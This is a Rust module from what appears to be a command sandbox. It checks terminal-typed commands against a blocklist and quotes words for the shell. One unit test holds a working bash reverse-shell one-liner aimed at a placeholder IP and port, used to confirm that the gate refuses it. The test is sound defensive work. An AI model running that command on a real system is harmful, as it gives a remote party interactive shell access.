//! Commands that the person at the terminal starts: no agent asks for them and nobody else is asked, but what must never
//! run does not run for them, either.

use std::ffi::OsString;

use shell::{Blocklist, Decision, Rule, read_with};

/// A command of the person at the terminal that may run in a cage.
///
/// INVARIANT (OneGate): beside a permit, the only thing by which a program gets into a cage. Made by [`vet`] alone; not
/// `Clone`.
#[must_use]
#[derive(Debug)]
pub struct Vetted {
    words: Vec<OsString>,
}

impl Vetted {
    /// The words that were judged, to run them; it is spent.
    pub fn spend(self) -> Vec<OsString> {
        self.words
    }
}

/// Why a command must never run, whoever wants it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Never {
    /// The rule.
    pub rule: Rule,
    /// What is said of it.
    pub why: String,
}

/// Reads a command as the gate reads those of agents. What a person could lift there, she has lifted by typing it.
///
/// # Errors
/// It must never run.
pub fn vet(words: &[OsString]) -> Result<Vetted, Never> {
    let reading = read_with(&as_shell_text(words), &Blocklist::in_a_cage());
    if reading.decision < Decision::Deny {
        return Ok(Vetted { words: words.to_vec() });
    }
    Err(reading.decisive.map_or_else(
        || Never { rule: Rule::Blocked, why: String::new() },
        |it| Never { rule: it.rule, why: it.reason },
    ))
}

/// The words as a shell would have to be told them.
#[must_use]
pub fn as_shell_text(words: &[OsString]) -> String {
    words.iter().map(|it| quoted(&it.to_string_lossy())).collect::<Vec<_>>().join(" ")
}

/// A word in single quotes, unless it is plain.
pub(crate) fn quoted(word: &str) -> String {
    let plain = |it: char| it.is_ascii_alphanumeric() || "-_./:=@%+,".contains(it);
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', "'\\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(text: &[&str]) -> Vec<OsString> {
        text.iter().map(OsString::from).collect()
    }

    #[test]
    fn what_was_vetted_is_what_is_spent() {
        let typed = words(&["ls", "-la", "a b"]);
        assert_eq!(vet(&typed).map(Vetted::spend), Ok(typed));
    }

    #[test]
    fn what_must_never_run_is_refused_with_its_rule() {
        let typed = words(&["sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]);
        let never = vet(&typed).map(Vetted::spend).unwrap_err();
        assert_eq!(never.rule, Rule::ReverseShell);
        assert!(!never.why.is_empty(), "{never:?}");
    }

    #[test]
    fn words_are_quoted_unless_they_are_plain() {
        assert_eq!(as_shell_text(&words(&["echo", "it's", "", "a=b"])), r"echo 'it'\''s' '' a=b");
    }
}
